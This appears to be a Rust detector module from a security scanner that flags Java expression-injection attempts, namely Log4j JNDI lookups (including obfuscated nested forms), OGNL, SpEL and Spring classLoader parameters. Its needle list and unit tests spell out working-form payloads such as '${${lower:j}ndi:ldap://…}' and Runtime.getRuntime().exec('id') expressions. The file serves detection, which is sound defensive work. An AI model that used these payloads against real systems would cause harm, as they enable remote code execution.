//! Expressions that Java programs evaluate: lookups, OGNL, EL, SpEL, and class loaders reached by parameter names.
//!
//! **What it finds.** `${jndi:…}` however its letters are put together from other lookups; `${…}`, `%{…}` and `#{…}`
//! that reach for classes and processes; OGNL's `@class@method` and `#_memberAccess`; SpEL's `T(java…)`; parameters
//! named `class.module.classLoader…`.
//!
//! **Why it matters.** Each of them runs code in frameworks that evaluate text (CVE-2021-44228, CVE-2017-5638,
//! CVE-2022-22965).
//!
//! **Example.** `${${lower:j}ndi:ldap://example.org/a}`
//!
//! Templates that name variables and Java source code are left alone. To allow expressions in a field, allow this
//! class for that field.

use super::setting::{Around, is_value, sure};
use crate::{
    detector::{Detector, Finds, Hit, Outcome},
    text::View,
};
use palisade_model::Severity;

pub(crate) static JAVA: Detector = Detector {
    class: "guard.injection.java",
    version: "1",
    severity: Severity::Critical,
    title: "Java expression that runs code",
    remediation: "Do not evaluate text from outside, and update the framework that does.",
    references: &["CWE-917", "CVE-2021-44228", "CVE-2022-22965"],
    finds: Finds::Places {
        needles: &[
            b"${j",
            b"${$",
            b"${lower:",
            b"${upper:",
            b"${:",
            b"${env:",
            b"${sys:",
            b"@java.",
            b"t(java",
            b"t(org",
            b"t(javax",
            b"getruntime",
            b"processbuilder",
            b"_memberaccess",
            b"ognl.",
            b"classloader",
            b"scriptenginemanager",
            b"forname(",
            b"java.lang.",
            b"xwork",
        ],
        confirm,
    },
};

/// Bytes of an expression that are read on either side.
const EXPRESSION_BYTES_MAX: usize = 200;

/// Lookups within each other that are resolved.
const LOOKUP_DEPTH_MAX: usize = 8;

fn confirm(view: &View<'_>, at: usize) -> Outcome {
    let found = if view.bytes()[at..].starts_with(b"${") { lookup(view, at) } else { expression(view, at) };
    match found {
        Some(hit) => Outcome::Found(hit),
        None => Outcome::Clean { until: at + 2 },
    }
}

/// A lookup of Log4j that reaches JNDI once the lookups in it are resolved.
fn lookup(view: &View<'_>, at: usize) -> Option<Hit> {
    // What is neither the name itself nor another lookup resolves to nothing.
    if !matches!(view.bytes().get(at + 2), Some(b'j' | b'J' | b'$')) {
        return None;
    }
    view.spend(EXPRESSION_BYTES_MAX);
    let around = Around::new(view, at, 0, EXPRESSION_BYTES_MAX);
    let resolved = resolve(&around.text);
    let rest = resolved.strip_prefix("${jndi:")?;
    let scheme = rest.split([':', '/']).next().unwrap_or_default();
    let nested = !around.text.starts_with("${jndi:");
    let known = ["ldap", "ldaps", "rmi", "dns", "iiop", "nis", "nds", "corba", "http", "https"].contains(&scheme);
    let length = around.text.find(['\n', ' ', '"']).unwrap_or(around.text.len());
    let span = at..around.start + length;
    let confidence = match (nested, known) {
        (true, _) => 0.97,
        (false, true) => sure(view, &span, 0.97, 0.8, 0.6),
        (false, false) => 0.5,
    };
    Some(Hit::text(span.clone(), None, confidence, "A lookup makes Log4j load code from elsewhere.").until(span.end))
}

/// `text` with inner lookups replaced by what they stand for: `${lower:j}` and `${x:-j}` are `j`.
fn resolve(text: &str) -> String {
    let mut resolved = String::with_capacity(text.len());
    let mut open: Vec<usize> = Vec::new();
    for character in text.chars() {
        match character {
            '}' if open.len() > 1 => {
                let start = open.pop().unwrap_or_default();
                let inner = resolved.split_off(start);
                resolved.push_str(value_of(inner.trim_start_matches("${")));
            }
            '{' if resolved.ends_with('$') => {
                if open.len() >= LOOKUP_DEPTH_MAX {
                    break;
                }
                open.push(resolved.len() - 1);
                resolved.push('{');
            }
            '}' if open.len() == 1 => break,
            other => {
                resolved.push(other);
                let all = open.len() == 1 && other != '$';
                if all && !("${jndi:".starts_with(&*resolved) || resolved.starts_with("${jndi:")) {
                    break;
                }
            }
        }
    }
    // Inner lookups that were not closed within the window say nothing.
    resolved
}

/// What the lookup `inner` stands for.
fn value_of(inner: &str) -> &str {
    if let Some((_, default)) = inner.split_once(":-") {
        return default;
    }
    inner.split_once(':').map_or("", |(_, value)| value)
}

/// An expression that reaches for classes or processes.
fn expression(view: &View<'_>, at: usize) -> Option<Hit> {
    if matches!(view.bytes()[at], b't' | b'T') && !view.word_may_begin(at) {
        return None;
    }
    let around = Around::new(view, at, EXPRESSION_BYTES_MAX, EXPRESSION_BYTES_MAX);
    let text = around.text.as_str();
    let here = &text[around.at..];
    let opened = ["${", "%{", "#{", "*{"].iter().filter_map(|open| text[..around.at].rfind(open)).max();
    let runs =
        around.has(&["exec(", ".start()", "processbuilder", "getruntime", ".eval(", "getinputstream", "defineclass"]);
    let (start, confidence) = if here.starts_with("@java.")
        && here.get(6..).is_some_and(|rest| rest.split_once('@').is_some_and(|(class, _)| class.len() < 60))
    {
        (around.at, if runs || opened.is_some() { 0.96 } else { 0.9 })
    } else if here.starts_with("_memberaccess") && text[..around.at].ends_with('#') {
        (around.at - 1, 0.95)
    } else if here.starts_with("t(")
        && text[..around.at].chars().next_back().is_none_or(|before| !before.is_alphanumeric())
    {
        (around.at, if runs { 0.93 } else { 0.7 })
    } else if here.starts_with("classloader") {
        (
            around.at.checked_sub(13).filter(|start| {
                text.get(*start..around.at)
                    .is_some_and(|before| before.ends_with("class.module.") || before.ends_with(".class."))
                    || text[..around.at].ends_with("class.")
            })?,
            parameter_confidence(here)?,
        )
    } else if let Some(open) = opened.filter(|open| runs && !text[*open..around.at].contains(['}', '\n'])) {
        (open, 0.93)
    } else if here.starts_with("ognl.") && text[..around.at].ends_with('@') {
        (around.at - 1, 0.93)
    } else if here.starts_with("forname(") && runs && is_value(view) && text.contains("getclass()") {
        (around.at, 0.85)
    } else {
        return None;
    };
    let span = around.start + start..around.end();
    let confidence = if confidence > 0.9 { sure(view, &span, confidence, 0.8, 0.6) } else { confidence };
    Some(
        Hit::text(span.clone(), None, confidence, "An expression reaches for classes and processes of Java.")
            .until(span.end),
    )
}

/// How sure it is that `classLoader…` goes on as the name of a parameter.
fn parameter_confidence(here: &str) -> Option<f64> {
    let rest = here.strip_prefix("classloader")?;
    let name = rest.bytes().take_while(|byte| byte.is_ascii_alphanumeric() || b".[]_".contains(byte)).count();
    let continues = rest.starts_with(['.', '[']);
    match (continues, rest.as_bytes().get(name)) {
        (true, Some(b'=')) if !rest[name..].starts_with("==") => Some(0.93),
        (true, None) => Some(0.85),
        (false, Some(b'=')) if name == 0 && !rest.starts_with("==") => Some(0.8),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use crate::testing::check;

    #[test]
    fn java() {
        check(
            "guard.injection.java",
            &[
                ("${jndi:ldap://example.org/a}", 0..28),
                ("${${lower:j}${::-n}d${upper:i}:ldap://example.org/a}", 0..52),
                ("x=${${env:NO:-j}ndi:rmi://example.org/}", 2..39),
                ("%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}", 6..50),
                ("${T(java.lang.Runtime).getRuntime().exec('id')}", 2..47),
                ("class.module.classLoader.resources.context.x=1", 0..46),
                ("%{#_memberAccess=1}", 2..19),
            ],
            &[
                "Process p = Runtime.getRuntime().exec(command);",
                "Hello ${name}, ${jvm.version}",
                "${java.home}/bin",
                "ClassLoader loader = this.getClass().getClassLoader();",
                "import java.lang.Runtime;",
                "The `java.lang.ProcessBuilder` class.",
            ],
        );
    }
}
